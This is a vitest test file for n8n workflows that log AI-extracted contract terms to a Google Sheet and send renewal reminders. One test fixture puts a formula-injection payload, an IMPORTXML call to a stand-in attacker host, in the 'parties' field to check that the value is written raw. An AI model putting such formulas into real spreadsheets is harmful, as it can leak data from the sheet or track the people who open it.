import { describe, expect, test } from 'vitest';

import { bundledContract } from '../../../harness/examples.mts';
import { itemsOf } from '../../../harness/executions.mts';
import { Stage } from '../../support/products/stage.mts';

const DAY = 86_400_000;
const day = (days: number): string => new Date(Date.now() + days * DAY).toISOString().slice(0, 10);

const stage = await Stage.ofThisFile();
const { google, slack } = stage.products;

const headings = ['file', 'link', 'parties', 'term', 'renewal', 'notice_by', 'risk', 'reason', 'session', 'checked_by', 'reminded_on'];

describe('drive-register.json', () => {
	const terms = {
		parties: '=IMPORTXML("https://evil.example")',
		term: '2026 to 2028',
		renewal: 'Yearly.',
		notice_by: '2028-09-30',
		risk: 'low',
		reason: 'Usual terms.',
	};

	test.each([
		['its terms become a row', 'completed', `Here it is:\n\`\`\`json\n${JSON.stringify(terms)}\n\`\`\``, true],
		['an answer that is not a JSON object becomes a task', 'completed', 'It is a fine contract.', false],
		['an invalid date becomes a task', 'completed', JSON.stringify({ ...terms, notice_by: 'soon' }), false],
		['a decline becomes a task', 'filtered', 'Not for us.', false],
		['an error becomes a task', 'error', 'The file is damaged.', false],
	] as const)('a contract is uploaded to the folder, and %s', async (_what, status, answer, isRecorded) => {
		google.files.push({ id: 'f1', ...(await bundledContract('mutual-nda.pdf')) });
		stage.answer(status, answer);
		await stage.publish('drive-register.json');
		await stage.done();

		expect(stage.sandbox.questions).toMatchObject([{ attachments: [{ fileName: 'mutual-nda.pdf' }] }]);
		const session = `https://app.legal-ai.example/sessions/${stage.sandbox.questions[0]?.sessionId ?? ''}`;
		const row = ['mutual-nda.pdf', 'https://drive.google.com/file/d/f1', ...Object.values(terms), session, '', ''];
		expect(google.sheet).toEqual(isRecorded ? [headings, row] : []);
		expect([...google.inputOptions]).toEqual(isRecorded ? ['RAW'] : []);
		expect(stage.taskTitles()).toEqual(isRecorded ? [] : ['Add to the contract register: mutual-nda.pdf']);
	});

	test('contracts that are answered in the same moment get a row each', async () => {
		google.sheet.push(headings);
		stage.answer('completed', JSON.stringify(terms));
		await stage.publish('drive-register.json');
		const names = ['one.pdf', 'two.pdf'];
		for (const fileName of names) {
			google.files.push({ ...(await bundledContract('mutual-nda.pdf')), id: fileName, fileName });
			await stage.n8n.waitForExecution(await stage.n8n.run(stage.workflow, { trigger: 'Contract Is Added' }), ['waiting']);
		}
		// Both find the same last row before either writes.
		google.readingTime = 3000;
		await stage.answered(names.length);
		await stage.settled(names.length);
		expect(google.sheet.slice(1).map(([file]) => file).sort()).toEqual(names);
	});
});

describe('renewal-reminders.json', () => {
	/** Days from now, as n8n's clock has them, and how people write them. */
	const soon = day(20);
	const [year, month, date] = soon.split('-').map(Number) as [number, number, number];
	const name = new Date(soon).toLocaleString('en', { month: 'long', timeZone: 'UTC' });

	function contract(file: string, noticeBy: unknown = soon, checkedBy = '', remindedOn = ''): unknown[] {
		return [file, `https://drive.google.com/${file}`, 'Meridian', '', 'Yearly.', noticeBy, 'low', '', '', checkedBy, remindedOn];
	}

	/** Publishes the example, with contracts in the register. */
	async function publish(...contracts: readonly unknown[][]): Promise<void> {
		google.sheet.push(headings, ...contracts);
		await stage.publish('renewal-reminders.json');
	}
	const sweep = async (): Promise<string> => (await stage.sweep('Weekdays at Eight')).status;
	const reminded = (): boolean[] => google.sheet.slice(1).map((cells) => cells[10] !== '');

	test('contracts that are due soon become a task each, and one message, once', async () => {
		await publish(
			contract('soon.pdf', soon, 'A. Lawyer'),
			contract('later.pdf', day(60)),
			contract('past.pdf', day(-3)),
			contract('reported.pdf', day(10), '', day(-1)),
			contract('none.pdf', ''),
		);
		expect(await sweep()).toBe('success');
		expect(await sweep()).toBe('success');
		const tasks = stage.sandbox.tasks.ordered().map(({ title, complete_by, description }) => [title, typeof complete_by, description?.includes('Nobody')]);
		expect(tasks.sort()).toEqual([
			[`Renew or give notice by ${day(-3)}: past.pdf`, 'string', true],
			[`Renew or give notice by ${soon}: soon.pdf`, 'string', false],
		].sort());
		expect(slack.posted()).toEqual([expect.stringMatching(/soon\.pdf[^]*past\.pdf/)]);
		expect(reminded()).toEqual([true, false, true, true, false]);
	});

	test('dates are read as people write them, and as Google Sheets knows them, however they are shown', async () => {
		const written = [soon, `${date} ${name} ${year}`, `${name} ${date}, ${year}`, `${date}.${month}.${year}`];
		const inSheets = { shown: `${month}/${date}/${year}`, days: Date.UTC(year, month - 1, date) / DAY + 25_569 };
		await publish(contract('past', '5/31/2026'), ...[...written, inSheets].map((typed, index) => contract(`soon ${index}`, typed)));
		await sweep();
		const due = [0, 1, 2, 3, 4].map((index) => `Renew or give notice by ${soon}: soon ${index}`);
		expect(stage.taskTitles()).toEqual(['Renew or give notice by 2026-05-31: past', ...due].sort());
	});

	test('dates that nobody can be sure of are reported once, and again when they are corrected', async () => {
		const unclear = ['2026-02-30', '5/6/2026', 'end of May'];
		await publish(...unclear.map((typed) => contract(`${typed}.pdf`, typed)));
		await sweep();
		await sweep();
		const reports = unclear.map((typed) => `Read the notice date "${typed}": ${typed}.pdf`);
		expect([stage.taskTitles(), slack.posted().length]).toEqual([reports, 1]);
		for (const row of google.sheet.slice(1)) row[5] = soon;
		await sweep();
		expect(stage.taskTitles()).toEqual([...reports, ...unclear.map((typed) => `Renew or give notice by ${soon}: ${typed}.pdf`)]);
	});

	test.each([
		['marking the row fails', () => { stage.products.refuse(/^POST sheets\.googleapis\.com.*batchUpdate/, 503); }, 1, 1],
		['posting the message fails', () => { stage.products.refuse(/chat\.postMessage/, 503); }, 1, 0],
		['the key has expired', () => void stage.expireKey(), 0, 0],
	])('%s: the row is not marked; the next day, it is posted and marked, and no task is created twice', async (_what, fail, created, posted) => {
		await publish(contract('soon.pdf'));
		fail();
		expect(await sweep()).toBe('error');
		expect([stage.taskTitles().length, slack.posted().length, reminded()]).toEqual([created, posted, [false]]);
		stage.products.acceptAll();
		stage.sandbox.faults.clear();
		expect(await sweep()).toBe('success');
		expect([stage.taskTitles().length, slack.posted().length, reminded()]).toEqual([1, posted + 1, [true]]);
	});

	test('a hundred are due at once: a hundred tasks, and one message', async () => {
		await publish(...Array.from({ length: 100 }, (_, index) => contract(`${index}.pdf`)));
		expect(await sweep()).toBe('success');
		expect([stage.taskTitles().length, new Set(reminded())]).toEqual([100, new Set([true])]);
		expect(slack.posted()).toEqual([expect.stringContaining('… and 70 more')]);
	});
});
